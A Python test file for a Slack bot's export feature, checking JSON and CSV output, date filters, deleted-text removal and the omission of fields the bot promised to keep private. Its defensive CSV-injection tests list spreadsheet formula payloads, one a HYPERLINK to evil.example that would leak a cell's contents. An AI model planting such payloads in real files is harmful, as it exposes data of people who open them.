"""leadbot export: JSON lines and CSV, round trip, filters, deleted text never exported, and
what the forms promised to keep private left out unless --include-private."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest

from bot.services.export import COLUMNS, csv_cell, keep_promises, write_csv, write_json
from bot.store import EXPORT_KINDS

AT = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


def seed(store):
    post = store.claim_post("C1", "prompt", AT, AT)
    store.mark_posted(post, ts="1763888400.000100", text="When you see…", at=AT)
    store.record_choice(post, "U1", "take", AT + timedelta(minutes=5))
    store.record_choice(post, "U2", "pass", AT + timedelta(days=2))
    store.record_reply(channel="C1", thread_ts="1763888400.000100", ts="1763888500.000200",
                       user="U1", text='I\'ll ask "why" five times, then, commas', at=AT
                       + timedelta(minutes=6), post_id=post)
    store.set_reaction(post_id=post, channel="C1", user="U2", reaction="raised_hands",
                       at=AT + timedelta(days=2, minutes=1), added=True)
    store.record_reflection(user="U2", channel="C1", text="Went to the gemba.\nLearned a lot.",
                            choice="take", theme="go-to-gemba", shared=True,
                            at=AT + timedelta(days=3))
    [take] = store.takes_without_follow_up("C1", AT)
    store.plan_follow_up(take, AT + timedelta(days=3))
    store.record_sighting(seer="U1", about="U2", text="Asked the quietest person first.",
                          at=AT + timedelta(days=3, hours=1), theme="respect-for-people",
                          channel="C1", anonymous=True)
    return post


def test_json_lines_have_the_documented_fields(store):
    seed(store)
    out = io.StringIO()
    assert write_json(store, EXPORT_KINDS, None, out) == 8
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["kind"] for r in rows] == ["post", "reply", "choice", "choice", "reaction",
                                         "reflection", "follow_up", "sighting"]
    assert (rows[-2]["user"], rows[-2]["status"], rows[-2]["choice"]) == ("U1", "pending", "take")
    # a sighting: the common fields (no choice, no ts; and no user, who saw it, since this
    # one is anonymous), then its own
    assert rows[-1] == {"kind": "sighting", "channel": "C1",
                        "text": "Asked the quietest person first.",
                        "at": "2026-11-26T10:00:00Z", "about": "U2",
                        "theme": "respect-for-people", "anonymous": True, "in_digest": True}
    choice = rows[2]
    assert choice == {"kind": "choice", "channel": "C1", "user": "U1", "choice": "take",
                      "ts": "1763888400.000100", "at": "2026-11-23T09:05:00Z", "current": True}
    assert rows[1]["text"].startswith("I'll ask")
    for row in rows:
        assert row["at"].endswith("Z")
        datetime.fromisoformat(row["at"].replace("Z", "+00:00"))


def test_json_round_trip_equals_the_store(store):
    seed(store)
    out = io.StringIO()
    write_json(store, EXPORT_KINDS, None, out, include_private=True)
    parsed = [json.loads(line) for line in out.getvalue().splitlines()]
    expected = [{k: v for k, v in row.items() if v is not None}
                for kind in EXPORT_KINDS for row in store.export_rows(kind)]
    assert parsed == expected


def test_csv_round_trip_per_kind(store):
    seed(store)
    for kind in EXPORT_KINDS:
        out = io.StringIO()
        count = write_csv(store, kind, None, out, include_private=True)
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        assert len(rows) == count
        assert list(rows[0]) == COLUMNS[kind]
        for got, want in zip(rows, store.export_rows(kind), strict=True):
            for key in COLUMNS[kind]:
                value = want.get(key)
                assert got[key] == ("" if value is None else str(value)), (kind, key)


def test_since_filters(store):
    seed(store)
    out = io.StringIO()
    write_json(store, EXPORT_KINDS, AT + timedelta(days=1), out)
    assert [json.loads(x)["kind"] for x in out.getvalue().splitlines()] == [
        "choice", "reaction", "reflection", "sighting"]


def test_deleted_reply_text_is_never_exported(store):
    seed(store)
    store.delete_reply(channel="C1", thread_ts="1763888400.000100", ts="1763888500.000200",
                       user="U1", at=AT + timedelta(days=1))
    out = io.StringIO()
    write_json(store, ("reply",), None, out)
    assert out.getvalue() == ""


# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): text starting with
# =, +, -, @, tab, carriage return or line feed gets a leading ', in CSV only.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1)", "-2+3",
            "\t=1+1", "\r=1+1", "\n=1+1", "-2"]


@pytest.mark.parametrize(("value", "cell"), [
    *[(text, "'" + text) for text in FORMULAS],
    ("Went to the gemba = learned", "Went to the gemba = learned"),  # only the first character
    ("'=already quoted", "'=already quoted"),
    ("", ""),
    (None, ""),
    (-2, -2),  # a number from the database stays a number a spreadsheet can add up
    (3.5, 3.5),
    (True, True),
])
def test_csv_cell_neutralises_formulas(value, cell):
    assert csv_cell(value) == cell


def test_csv_export_neutralises_formulas_and_json_keeps_the_text(run_cli, tmp_path):
    from bot.store import Store

    store = Store.open(tmp_path / "cli.db")
    post = seed(store)
    for n, text in enumerate(FORMULAS):
        store.record_reply(channel="C1", thread_ts="1763888400.000100", ts=f"1763888600.{n:06}",
                           user="U3", text=text, at=AT + timedelta(hours=n), post_id=post)
    store.record_reflection(user="U3", channel="C1", text="=1+1", choice="take",
                            theme="go-to-gemba", shared=True, at=AT + timedelta(days=4))
    store.close()

    store = Store.open(tmp_path / "cli.db")
    store.record_reply(channel="C1", thread_ts="1763888400.000100", ts="1763888700.000001",
                       user="U4", text="take it\r=1+1", at=AT, post_id=post)
    store.close()

    result = run_cli("export", "--format", "csv", "--kind", "reply")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))
    assert [row["text"] for row in rows if row["user"] == "U3"] == ["'" + t for t in FORMULAS]
    # a carriage return inside text is quoted, so no row can begin after it (RFC 4180)
    assert [row["text"] for row in rows if row["user"] == "U4"] == ["take it\r=1+1"]
    assert b'"take it\r=1+1"' in result.stdout_bytes
    for row in csv.reader(io.StringIO(result.stdout_bytes.decode(), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)

    result = run_cli("export", "--format", "csv", "--output", str(tmp_path / "out"))
    assert result.exit_code == 0
    with (tmp_path / "out" / "reflections.csv").open(newline="") as handle:
        assert [row["text"] for row in csv.DictReader(handle)][-1] == "'=1+1"

    result = run_cli("export", "--format", "json", "--kind", "reply")
    texts = [row["text"] for row in map(json.loads, result.output.splitlines())
             if row["user"] == "U3"]
    assert texts == FORMULAS


# What the forms promise to keep private: an unshared reflection's words ("Only you see it"),
# one written from a follow-up too; who wrote a reflection shared without their name ("The
# team sees it without your name"); who recorded an anonymous sighting ("They see your words,
# not your name"), and the DM such a sighting came from, whose id stands for the sighter. Each
# value occurs nowhere else in the database, so its absence from the whole output means it
# was left out.
PRIVATE_WORDS = "Only mine: I froze when the director asked."
LINKED_WORDS = "Only mine too: the stand-up I took over went badly."
AUTHOR, SEER, DM_SEER, DM = "U0AUTHORANON", "U0SEERANON", "U0SEERINDM", "D0SEERDM"
PRIVATE = {"reflection": [PRIVATE_WORDS, LINKED_WORDS, AUTHOR],
           "sighting": [SEER, DM_SEER, DM]}
# ...and what stays: shared words, a named author or sighter, an anonymous sighting's words
# and its link to a channel's message.
NAMED_AUTHOR, NAMED_SEER = "U0AUTHORNAMED", "U0SEERNAMED"
LINK = "https://fake.slack.com/archives/C1/p1763888400000100"
KEPT = {"reflection": ["Went to the gemba.", "Shared, no name:", "Shared, named:",
                       NAMED_AUTHOR],
        "sighting": [NAMED_SEER, LINK, "Stopped the line", "Kept the retro kind"]}


def seed_private(path):
    """The CLI's database: ``seed`` plus private and shared reflections and sightings."""
    from bot.store import Store

    store = Store.open(path)
    seed(store)  # its reflection is shared without a name; its sighting anonymous
    [follow_up] = store.export_rows("follow_up")
    later = AT + timedelta(days=4)
    store.record_reflection(user="U2", channel="C1", text=PRIVATE_WORDS, choice="pass", at=later)
    store.record_reflection(user="U1", channel="C1", text=LINKED_WORDS, choice="take", at=later,
                            follow_up_id=follow_up["follow_up_id"])
    store.record_reflection(user=AUTHOR, channel="C1", text="Shared, no name: I waited.",
                            at=later, shared=True)
    store.record_reflection(user=NAMED_AUTHOR, channel="C1", text="Shared, named: I asked.",
                            at=later, shared=True, named=True)
    store.record_sighting(seer=SEER, about="U2", text="Stopped the line when it looked off.",
                          at=later, channel="C1", permalink=LINK, anonymous=True)
    store.record_sighting(seer=DM_SEER, about="U2", text="Kept the retro kind.", at=later,
                          channel=DM, permalink=f"https://fake.slack.com/archives/{DM}/p1",
                          anonymous=True)
    store.record_sighting(seer=NAMED_SEER, about="U1", text="Named: asked before deciding.",
                          at=later, channel="C1")
    store.close()


ALL = ("reflection", "sighting")
EXPORTS = [  # (arguments, kinds it holds, file or folder it writes)
    pytest.param([], ALL, None, id="json"),
    pytest.param(["--kind", "reflection"], ("reflection",), None, id="json-reflection"),
    pytest.param(["--kind", "sighting"], ("sighting",), None, id="json-sighting"),
    pytest.param(["--output", "out.jsonl"], ALL, "out.jsonl", id="json-file"),
    pytest.param(["--format", "csv", "--kind", "reflection"], ("reflection",), None,
                 id="csv-reflection"),
    pytest.param(["--format", "csv", "--kind", "sighting"], ("sighting",), None,
                 id="csv-sighting"),
    pytest.param(["--format", "csv", "--output", "out"], ALL, "out", id="csv-folder"),
]


def exported(result, target) -> str:
    """Everything an export wrote: standard output, or every file it wrote."""
    assert result.exit_code == 0, result.output
    if target is None:
        return result.stdout
    if target.is_dir():
        return "\n".join(path.read_text(encoding="utf-8") for path in sorted(target.iterdir()))
    return target.read_text(encoding="utf-8")


@pytest.mark.parametrize(("args", "kinds", "target"), EXPORTS)
def test_export_keeps_what_the_forms_promised_private(run_cli, tmp_path, args, kinds, target):
    from bot.cli import PRIVATE_WARNING

    seed_private(tmp_path / "cli.db")
    args = [str(tmp_path / a) if a in ("out", "out.jsonl") else a for a in args]
    target = tmp_path / target if target else None

    result = run_cli("export", *args)
    text = exported(result, target)
    for kind in kinds:
        for value in PRIVATE[kind]:
            assert value not in text, value
        for value in KEPT[kind]:
            assert value in text, value
    assert "warning" not in result.stderr

    result = run_cli("export", *args, "--include-private")
    text = exported(result, target)
    for kind in kinds:
        for value in PRIVATE[kind] + KEPT[kind]:
            assert value in text, value
    assert [line for line in result.stderr.splitlines() if "warning" in line] == [
        PRIVATE_WARNING]


def test_a_left_out_value_is_an_absent_key_in_json_and_an_empty_cell_in_csv(run_cli, tmp_path):
    seed_private(tmp_path / "cli.db")
    rows = [json.loads(line) for line in run_cli("export").stdout.splitlines()]
    # unshared: who, the choice and the follow-up stay (they are in the counts); no words
    assert [(r.get("text", "")[:16], r.get("user"), r["shared"], r["shared_named"],
             r.get("follow_up_id")) for r in rows if r["kind"] == "reflection"] == [
        ("Went to the gemb", None, True, False, None), ("", "U2", False, False, None),
        ("", "U1", False, False, 1), ("Shared, no name:", None, True, False, None),
        ("Shared, named: I", NAMED_AUTHOR, True, True, None)]
    sightings = {r["text"].split()[0]: r for r in rows if r["kind"] == "sighting"}
    assert list(sightings) == ["Asked", "Stopped", "Kept", "Named:"]
    assert (sightings["Named:"]["user"], sightings["Named:"]["anonymous"]) == (NAMED_SEER, False)
    asked, stopped, kept = sightings["Asked"], sightings["Stopped"], sightings["Kept"]
    assert "user" not in asked and "user" not in stopped  # anonymous: no sighter
    assert (stopped["channel"], stopped["permalink"]) == ("C1", LINK)  # a channel names nobody
    assert not {"user", "channel", "permalink"} & set(kept)  # a DM's id names who was in it
    assert (kept["about"], kept["anonymous"]) == ("U2", True)

    result = run_cli("export", "--format", "csv", "--kind", "sighting")
    cells = {row["text"].split()[0]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert [(cells[k]["user"], cells[k]["channel"], cells[k]["permalink"])
            for k in ("Stopped", "Kept", "Named:")] == [("", "C1", LINK), ("", "", ""),
                                                        (NAMED_SEER, "C1", "")]
    result = run_cli("export", "--format", "csv", "--kind", "reflection")
    assert [(row["text"][:16], row["user"]) for row in
            csv.DictReader(io.StringIO(result.stdout))] == [
        ("Went to the gemb", ""), ("", "U2"), ("", "U1"), ("Shared, no name:", ""),
        ("Shared, named: I", NAMED_AUTHOR)]


BASE = {"user": "U1", "channel": "C1", "text": "words", "follow_up_id": 3,
        "permalink": "https://x.slack.com/archives/C1/p1"}


@pytest.mark.parametrize(("kind", "row", "left_out"), [
    ("reflection", {"shared": False, "shared_named": False}, {"text"}),
    ("reflection", {"shared": True, "shared_named": False}, {"user", "follow_up_id"}),
    ("reflection", {"shared": True, "shared_named": True}, set()),
    ("sighting", {"anonymous": False, "channel": "D0DM"}, set()),
    ("sighting", {"anonymous": True}, {"user"}),
    ("sighting", {"anonymous": True, "channel": "D0DM"}, {"user", "channel"}),
    ("sighting", {"anonymous": True, "channel": "D0DM",
                  "permalink": "https://x.slack.com/archives/D0DM/p1"},
     {"user", "channel", "permalink"}),
    ("reply", {}, set()),
    ("follow_up", {}, set()),
])
def test_keep_promises_leaves_out_exactly_these(kind, row, left_out):
    row = {**BASE, **row}
    kept = keep_promises(kind, row)
    assert {k for k, v in kept.items() if v is None} == left_out
    assert {k: v for k, v in kept.items() if k not in left_out} == {
        k: v for k, v in row.items() if k not in left_out}


def test_the_readme_shows_the_warning_and_who_can_see_what():
    from bot.cli import PRIVATE_WARNING
    from tests.conftest import REPO

    readme = (REPO / "README.md").read_text(encoding="utf-8")
    assert PRIVATE_WARNING in readme
    table = readme.split("### Who can see what")[1].split("\n## ")[0]
    for record in ("Choice", "Thread reply", "Reaction", "Reflection, not shared",
                   "Reflection, shared", "Sighting, named", "Sighting, anonymous",
                   "Follow-up answer", "Settings"):
        assert f"\n| {record} " in table, record
    assert "`leadbot export --include-private`" in table and "database file" in table
